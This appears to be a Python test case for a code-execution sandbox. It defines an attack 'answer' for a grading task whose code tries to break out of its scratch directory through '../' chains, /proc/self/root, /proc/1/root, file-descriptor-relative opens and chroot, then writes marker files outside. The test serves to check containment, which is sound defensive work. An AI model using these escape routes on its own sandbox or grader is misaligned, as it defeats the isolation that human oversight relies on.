"""Leave the scratch by every spelling: .., /proc/self/cwd, /proc/1/root, open folders, chroot."""

from attacking import Attack

CLIMBS = """
import os

places = ["../" * up + ELSEWHERE.lstrip("/") for up in range(1, 12)]
places += [root + ELSEWHERE for root in ("", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/..",
                                         "/proc/thread-self/root", "/dev/fd/0/..")]
for number, place in enumerate(places):
    try:
        with open(place + "/climbed-" + str(number), "w") as file:
            file.write("out")
    except OSError:
        pass
for number in range(100):
    try:
        there = os.open("../.." + ELSEWHERE, os.O_DIRECTORY, dir_fd=number)
        os.close(os.open("by-handle", os.O_CREAT | os.O_WRONLY, dir_fd=there))
    except (OSError, ValueError):
        pass
try:
    os.chroot(".")
except OSError:
    pass
"""
ATTACK = Attack(
    answers={"pairwise-l2": CLIMBS},
    solved=(),
    wins=lambda run: any(path.startswith("elsewhere/climbed") for path in run.altered),
)
